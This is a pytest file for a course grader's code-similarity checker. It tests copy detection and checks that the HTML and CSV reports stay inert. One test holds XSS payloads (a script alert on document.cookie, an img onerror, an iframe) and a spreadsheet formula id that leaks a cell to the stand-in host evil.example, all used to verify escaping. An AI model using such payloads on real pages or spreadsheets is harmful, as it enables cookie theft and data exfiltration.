"""dlmed.grader.similarity: copied work is found, independent work is not, student text stays inert.

Fixtures: each lab's fixture submissions (tests/submissions/labN.py) built into the release
notebook, the instructor's solution as a submission ("reference"), and copies made here the
way students disguise them (renamed variables, moved lines, new comments and blank lines).
Note: the fixtures' partial and mistake submissions are the "alternative" submission's code
with a few cells changed (``with_answers(ALTERNATIVE, ...)``), i.e. copies of it by
construction; the independently written pairs are the solution and the alternative, and
the cells the mistake fixtures rewrote from scratch.
"""

import csv
import importlib
import re

import nbformat
import pytest

from dlmed.grader import similarity
from tests.conftest import PROJECT_ROOT

LABS = [f"lab{n}" for n in range(1, 7)]


def _lab(lab):
    release_path = next((PROJECT_ROOT / "release" / lab).glob("*.ipynb"))
    release = nbformat.read(str(release_path), as_version=4)
    solution = nbformat.read(str(PROJECT_ROOT / "solutions" / lab / release_path.name), as_version=4)
    source = nbformat.read(str(PROJECT_ROOT / "source" / lab / release_path.name), as_version=4)
    answer_ids = [c.metadata["nbgrader"]["grade_id"] for c in release.cells
                  if c.metadata.get("nbgrader", {}).get("solution")]
    fixtures = importlib.import_module(f"tests.submissions.{lab}")
    return release_path, release, solution, source, answer_ids, fixtures


def _disguise(code: str, renames: dict) -> str:
    """What a student does to a copied answer: rename, move two lines, comment, re-space."""
    for old, new in renames.items():
        code = re.sub(rf"\b{old}\b", new, code)
    lines = code.strip("\n").split("\n")
    body = [i for i, line in enumerate(lines) if line.startswith("    ") and not line.strip().startswith(('"""', "return"))
            and not line.rstrip().endswith(":")]
    # Swap the first two adjacent plain statements of the same indentation (moved lines).
    for a, b in zip(body, body[1:]):
        if b == a + 1 and len(lines[a]) - len(lines[a].lstrip()) == len(lines[b]) - len(lines[b].lstrip()):
            lines[a], lines[b] = lines[b], lines[a]
            break
    out = ["# my own solution, written after the lecture"]
    for line in lines:
        out.append(line.replace(" = ", " =  ").replace(", ", " , ") + ("  # step" if line.strip() else ""))
        out.append("")
    return "\n".join(out)


LAB1_RENAMES = {"generator": "rng", "order": "permutation", "num_test": "n_held_out", "flat": "flattened",
                "images": "batch", "total": "running", "count": "seen", "history": "epoch_losses",
                "matrix": "counts", "probabilities": "probs", "labels": "targets", "p": "param"}


def _class(lab, extra=None):
    release_path, release, solution, source, answer_ids, fixtures = _lab(lab)
    notebooks = {"reference": source, "blank": release}
    for name, submission in fixtures.SUBMISSIONS.items():
        notebooks[name] = fixtures.build_notebook(release_path, submission)
    notebooks.update(extra or {})
    return similarity.compare_class(notebooks, release, solution, answer_ids), fixtures


def _pair(report, a, b):
    for pair in report.pairs:
        if {pair.first, pair.second} == {a, b}:
            return pair
    return None


def test_a_disguised_copy_is_flagged():
    """A copy of the alternative submission with renamed variables, moved lines, comments and spacing is flagged."""
    release_path, _, _, _, _, fixtures = _lab("lab1")
    copied = dict(fixtures.ALTERNATIVE)
    copied = {cell: _disguise(code, LAB1_RENAMES) for cell, code in copied.items()}
    copy_notebook = fixtures.build_notebook(release_path, fixtures.Submission("copy", copied))
    report, _ = _class("lab1", {"copier": copy_notebook})
    pair = _pair(report, "alternative_correct", "copier")
    assert pair is not None and pair.flagged, f"the disguised copy was not flagged: {pair}"
    assert pair.similarity >= 0.7, f"similarity of a disguised full copy: expected >= 0.7, got {pair.similarity:.2f}"
    assert not _pair(report, "reference", "copier").flagged, "the copy is of the alternative, not of the solution"


def test_a_partial_copy_is_flagged():
    """Three long answers copied with new names (the rest written differently) are still flagged."""
    release_path, _, _, source, _, fixtures = _lab("lab1")
    reference_answers = {c.metadata["nbgrader"]["grade_id"]: c.source for c in source.cells
                         if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"}
    copied = {cell: _disguise(reference_answers[cell], LAB1_RENAMES)
              for cell in ("ex4_train_model", "ex5_predict", "ex9_small_cnn")}
    notebook = fixtures.build_notebook(release_path, fixtures.Submission("copy", copied))
    report, _ = _class("lab1", {"copier": notebook})
    pair = _pair(report, "reference", "copier")
    assert pair is not None and pair.flagged, f"three copied exercises out of ten were not flagged: {pair}"
    assert report.solution["copier"].flagged, "the copy of the solution's answers is not flagged against solutions/"


@pytest.mark.parametrize("lab", LABS)
def test_independent_correct_submissions_are_not_flagged(lab):
    """The solution and the alternative (correct, written independently) are not flagged, in every lab;
    submissions derived from the alternative are not flagged against the solution either."""
    report, fixtures = _class(lab)
    for name in fixtures.SUBMISSIONS:
        pair = _pair(report, "reference", name)
        if pair is not None:
            assert not pair.flagged, f"{lab}: reference and {name} flagged ({pair.similarity:.2f}): {pair.cells}"
            assert pair.similarity < 0.4, f"{lab}: reference vs {name}: similarity {pair.similarity:.2f}, expected < 0.4"
        assert not report.solution[name].flagged, f"{lab}: {name} flagged as close to the published solution"
    assert report.solution["reference"].flagged, f"{lab}: the solution itself is not found as the published solution"
    assert "blank" not in {p.first for p in report.pairs} | {p.second for p in report.pairs}, (
        f"{lab}: the blank notebook shares fingerprints with someone: the starter code was not removed")


def test_independent_rewrites_of_the_same_exercises_are_not_flagged():
    """Lab 1's mistakes_c rewrote four exercises from scratch; on those cells alone it is not flagged."""
    release_path, _, _, _, _, fixtures = _lab("lab1")
    cells = ("ex1_split_dataset", "ex3_sgd_update", "ex4_train_model", "ex7_confusion_matrix")
    rewritten = fixtures.SUBMISSIONS["mistakes_c"].answers
    notebooks = {
        "alternative": fixtures.build_notebook(release_path, fixtures.Submission("a", {c: fixtures.ALTERNATIVE[c] for c in cells})),
        "rewrite": fixtures.build_notebook(release_path, fixtures.Submission("b", {c: rewritten[c] for c in cells})),
    }
    report, _ = _class("lab1", notebooks)
    pair = _pair(report, "alternative", "rewrite")
    assert pair is None or not pair.flagged, f"independent rewrites flagged: {pair}"


def test_short_answers_alone_do_not_flag():
    """Identical one-line answers (accuracy, output size, parameter count) count nothing."""
    release_path, _, _, _, _, fixtures = _lab("lab1")
    short = {"ex6_accuracy": "def accuracy(probabilities, labels):\n"
                             "    return (probabilities.argmax(dim=1) == labels).float().mean().item()",
             "ex8_conv_output_size": "def conv_output_size(input_size, kernel_size, stride=1, padding=0):\n"
                                     "    return (input_size + 2 * padding - kernel_size) // stride + 1",
             "ex10_count_parameters": "def count_parameters(model, trainable_only=True):\n"
                                      "    return sum(p.numel() for p in model.parameters() "
                                      "if p.requires_grad or not trainable_only)"}
    notebooks = {name: fixtures.build_notebook(release_path, fixtures.Submission(name, dict(short)))
                 for name in ("ann", "ben")}
    report, _ = _class("lab1", notebooks)
    pair = _pair(report, "ann", "ben")
    assert pair is None or not pair.flagged, f"short identical answers flagged: {pair}"
    assert pair is None or pair.shared_tokens < similarity.FLAG_SHARED_TOKENS / 4, (
        f"three one-line answers should weigh next to nothing, got {pair.shared_tokens:.1f} weighted tokens")
    for cell in ("ex6_accuracy", "ex8_conv_output_size"):
        weight = similarity.cell_weight(report.prints["ann"][cell].own_tokens)
        assert weight == 0, f"{cell}: a one-line answer should weigh 0, got {weight}"


def test_normalised_tokens_ignore_names_comments_and_layout():
    """Renaming, comments, blank lines and spacing give the same tokens; library calls stay visible."""
    known = {"torch"}
    a = similarity.code_tokens("total = torch.randperm(n)  # shuffle\nreturn total[:k]\n", known)
    b = similarity.code_tokens("\n\nperm =  torch.randperm( size )\n\n\nreturn perm[ : cut ]", known)
    assert a.values == b.values, f"tokens differ: {a.values} vs {b.values}"
    assert "randperm" in a.values and "torch" in a.values, f"library calls were normalised away: {a.values}"
    broken = similarity.code_tokens('def f(:\n    s = "unterminated\n', known)
    assert broken.values, "code that does not parse still gives tokens (a regex split)"


HOSTILE_CODE = '''
def train_model(model, train_loader, loss_fn, optimizer, num_epochs, device, max_steps_per_epoch=None):
    """</pre></td><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"""
    history = []
    for epoch in range(num_epochs):
        model.train()
        total, count = 0.0, 0
        for step, (images, labels) in enumerate(train_loader):
            if max_steps_per_epoch is not None and step >= max_steps_per_epoch:
                break  # </mark><iframe src="/api/contents"></iframe>
            images, labels = images.to(device), labels.to(device)
            optimizer.zero_grad()
            loss = loss_fn(model(images), labels)
            loss.backward()
            optimizer.step()
            total += loss.item() * len(labels)
            count += len(labels)
        history.append(total / count)
    return history
'''


def test_side_by_side_and_csv_are_inert(tmp_path):
    """Student code shown side by side is escaped; ids and code in similarity.csv cannot be formulas."""
    release_path, _, _, _, _, fixtures = _lab("lab1")
    answers = {"ex4_train_model": HOSTILE_CODE}
    notebooks = {'=HYPERLINK("http://evil.example/?"&A1,"x")': fixtures.build_notebook(release_path, fixtures.Submission("x", answers)),
                 "<b>bob</b>": fixtures.build_notebook(release_path, fixtures.Submission("y", answers)),
                 "not_a_notebook": {"cells": "<script>"}, "missing": None}
    report, _ = _class("lab1", notebooks)
    page = similarity.html_section(report)
    assert report.flagged, "two identical long answers should be flagged"
    assert not re.search(r"<\s*(script|iframe|img)|<b>bob", page), "student code or ids reached the report unescaped"
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in page, "the escaped code is not shown side by side"
    assert "<mark>" in page, "matching lines are not marked"
    assert "missing" in report.skipped, "a student without a graded notebook should be listed as not compared"
    path = tmp_path / "similarity.csv"
    similarity.write_csv(report, path)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@")), f"a formula reached similarity.csv: {value!r}"
    assert any(value.startswith("'=HYPERLINK") for row in rows for value in row), "the hostile id should be kept, neutralised"


def test_compare_submissions_reads_the_graded_notebooks(tmp_path):
    """The grader's entry point: graded notebooks from autograded/, the solution from source/ without
    solutions/, and a file that is not a notebook skipped (not fatal)."""
    import shutil

    from dlmed.grader.lab import LabCell, LabInfo

    release_path, release, _, source, answer_ids, fixtures = _lab("lab1")
    root = tmp_path / "course"
    for folder in ("release", "source"):
        shutil.copytree(PROJECT_ROOT / folder / "lab1", root / folder / "lab1")
    cells, order = {}, []
    for cell in release.cells:
        meta = cell.metadata.get("nbgrader", {})
        if "grade_id" in meta:
            order.append(meta["grade_id"])
            cells[meta["grade_id"]] = LabCell(meta["grade_id"], cell.cell_type, bool(meta.get("locked")), None,
                                              cell.source, bool(meta.get("grade")), bool(meta.get("solution")),
                                              bool(meta.get("task")), meta.get("points"))
    lab_info = LabInfo("lab1", release_path.name, cells, order, None, "x")
    graded = {"ref": source, "alt": fixtures.build_notebook(release_path, fixtures.SUBMISSIONS["alternative_correct"])}
    for student, notebook in graded.items():
        (root / "autograded" / student / "lab1").mkdir(parents=True)
        nbformat.write(notebook, str(root / "autograded" / student / "lab1" / release_path.name))
    (root / "autograded" / "junk" / "lab1").mkdir(parents=True)
    (root / "autograded" / "junk" / "lab1" / release_path.name).write_text("[1, 2")
    report = similarity.compare_submissions(root, lab_info, ["ref", "alt", "junk", "absent"],
                                            lambda student: root / "autograded" / student / "lab1")
    assert set(report.skipped) == {"junk", "absent"}, f"skipped: {report.skipped}"
    assert report.solution["ref"].flagged and not report.solution["alt"].flagged, report.solution
    assert not report.flagged, f"ref and alt flagged: {report.flagged}"
